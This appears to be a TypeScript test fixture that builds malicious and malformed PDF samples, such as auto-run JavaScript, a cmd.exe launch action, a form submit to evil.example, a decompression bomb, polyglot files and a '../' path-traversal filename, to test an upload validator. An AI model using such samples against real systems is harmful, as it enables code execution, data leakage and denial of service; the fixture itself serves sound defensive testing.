import { deflateSync } from 'node:zlib';
import { hostilePictures, type SentFile, SMUGGLED } from './hostile-pictures';

const TYPE = 'application/pdf';

const stream = (head: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${head} /Length ${content.length}>>\nstream\n`),
    content,
    Buffer.from('\nendstream\n'),
  ]);

/** A PDF of one page that says a word. @param more objects and entries of its catalogue */
function aPdf(catalogue = '', ...objects: readonly (string | Buffer)[]): Buffer {
  const bodies: Buffer[] = [
    `<</Type /Catalog /Pages 2 0 R ${catalogue}>>\n`,
    '<</Type /Pages /Kids [3 0 R] /Count 1>>\n',
    '<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R>>\n',
    stream('', Buffer.from('BT /F1 24 Tf 72 720 Td (Extrait Kbis) Tj ET')),
    ...objects,
  ].map((body) => (typeof body === 'string' ? Buffer.from(body) : body));
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    ...bodies.flatMap((body, at) => [Buffer.from(`${at + 1} 0 obj\n`), body, Buffer.from('endobj\n')]),
    Buffer.from(`trailer\n<</Root 1 0 R /Size ${bodies.length + 1}>>\nstartxref\n0\n%%EOF\n`),
  ]);
}

const RUN = `app.alert('${SMUGGLED}')`;
const script = `<</S /JavaScript /JS (${RUN})>>\n`;
const packed = (text: string, size = text.length): Buffer =>
  deflateSync(Buffer.concat([Buffer.from(text), Buffer.alloc(size - text.length, ' ')]));

const file = (what: string, name: string, bytes: Buffer, isTaken = false): SentFile => ({
  what,
  name,
  type: TYPE,
  bytes,
  isPicture: isTaken,
});

function active(): SentFile[] {
  const objects = (text: string, size?: number) =>
    stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`5 0 ${text}`, size));
  return [
    file('a PDF that runs a script when it is opened', 'kbis.pdf', aPdf(`/OpenAction ${script}`)),
    file('a PDF with scripts by name', 'names.pdf', aPdf('/Names <</JavaScript 5 0 R>>', script)),
    file(
      'a PDF whose script is spelt otherwise',
      'spelt.pdf',
      aPdf(`/OpenAction <</S /J#61va#53cript /JS (${RUN})>>`),
    ),
    file(
      'a PDF with its script in a packed object',
      'packed.pdf',
      aPdf('/OpenAction 5 0 R', objects(script)),
    ),
    file(
      'a PDF with packed objects that cannot be looked at',
      'odd.pdf',
      aPdf('', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from([0x80, 1, 2, 3]))),
    ),
    file('a PDF with packed objects of forty megabytes', 'bomb.pdf', aPdf('', objects('<<>>', 40_000_000))),
    file('a PDF that starts a program', 'launch.pdf', aPdf('/OpenAction <</S /Launch /F (cmd.exe)>>')),
    file(
      'a PDF that carries a file',
      'carrier.pdf',
      aPdf('/Names <</EmbeddedFiles 5 0 R>>', stream('/Type /EmbeddedFile', Buffer.from(SMUGGLED))),
    ),
    file('a PDF with a film', 'film.pdf', aPdf('', '<</Type /Annot /Subtype /RichMedia>>\n')),
    file(
      'a PDF with a form of XML',
      'xfa.pdf',
      aPdf('/AcroForm <</XFA 5 0 R>>', stream('', Buffer.from(`<xdp>${SMUGGLED}</xdp>`))),
    ),
    file(
      'a PDF that sends itself',
      'send.pdf',
      aPdf('/OpenAction <</S /SubmitForm /F (https://evil.example)>>'),
    ),
    file('a PDF that opens another inside', 'inside.pdf', aPdf('/OpenAction <</S /GoToE /T <</R /C>>>>')),
    file('a PDF that is locked', 'locked.pdf', aPdf('/Encrypt 5 0 R', '<</Filter /Standard /V 5>>\n')),
  ];
}

function broken(): SentFile[] {
  const pdf = aPdf();
  return [
    file('a PDF that was cut', 'cut.pdf', pdf.subarray(0, pdf.length >> 1)),
    file('a PDF behind a program', 'program.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), pdf])),
    file(
      'a page that says it is a PDF',
      'page.pdf',
      Buffer.from(`<html>%PDF-1.7<script>alert("${SMUGGLED}")</script>%%EOF`),
    ),
    file(
      'a PDF of eleven megabytes',
      'large.pdf',
      Buffer.concat([pdf, Buffer.alloc(11 * 1024 * 1024, '%'), Buffer.from('\n%%EOF\n')]),
    ),
  ];
}

function disguised(): SentFile[] {
  const pdf = aPdf();
  return [
    file('a PDF that only shows something', 'honest.pdf', pdf, true),
    file(
      'a PDF with pictures that are packed',
      'scan.pdf',
      aPdf('', stream('/Filter /FlateDecode', packed('', 3_000_000))),
      true,
    ),
    file(
      'a PDF with an archive behind it',
      'tail.pdf',
      Buffer.concat([pdf, Buffer.from(`PK\x03\x04${SMUGGLED}PK\x05\x06`)]),
      true,
    ),
    file(
      'a PDF with a page behind it',
      'page-tail.pdf',
      Buffer.concat([pdf, Buffer.from(`<script>alert("${SMUGGLED}")</script>`)]),
      true,
    ),
    file('a PDF with the name of a page', '../../kbis.pdf.html', pdf, true),
  ];
}

/**
 * Files that somebody sends as a proof: documents that do more than show something, and every hostile picture. `isPicture`
 * says whether one is taken, as a picture of ours or as a document that lies still.
 */
export async function hostileDocuments(): Promise<SentFile[]> {
  const pictures = await hostilePictures();
  return [
    ...active(),
    ...broken(),
    ...disguised(),
    // A phone's photograph and a scan are JPEG or PNG.
    ...pictures.map((picture) => ({
      ...picture,
      isPicture: picture.isPicture && !picture.bytes.subarray(8, 12).equals(Buffer.from('WEBP')),
    })),
  ];
}
